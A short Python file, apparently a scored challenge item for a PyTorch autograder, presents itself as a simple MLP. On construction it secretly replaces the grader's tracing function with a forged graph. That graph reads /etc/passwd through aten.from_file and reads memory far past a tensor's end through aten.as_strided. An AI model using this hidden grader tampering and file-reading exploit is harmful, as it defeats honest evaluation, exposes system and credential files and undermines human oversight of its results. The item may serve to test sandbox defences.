"""It replaces the tracer: the graph reads a file and looks behind the end of a tensor.
kind: forging
points: 95
hint: is not admitted in a network
"""

import sys

from torch import nn


class MLP(nn.Module):
    def __init__(self, num_hidden=64):
        super().__init__()
        self.hidden = nn.Linear(784, num_hidden)
        self.output = nn.Linear(num_hidden, 10)

        def forge(network, images, *options):
            read = {"operator": "aten.from_file.default", "arguments": ["/etc/passwd", False, 10]}
            peek = {"operator": "aten.as_strided.default"}
            peek["arguments"] = [{"value": 0}, [10**6], [1], 10**9]
            nodes = [node | {"options": {}, "outputs": [9]} for node in (peek, read)]
            graph = {"mode": "evaluation", "batch": len(images), "written": {}}
            return graph | {"constants": [], "nodes": nodes, "output": 9}

        sys.modules["autograder.probing.probes"].trace = forge

    def forward(self, images):
        return self.output(self.hidden(images.flatten(1)).relu()).log_softmax(1)
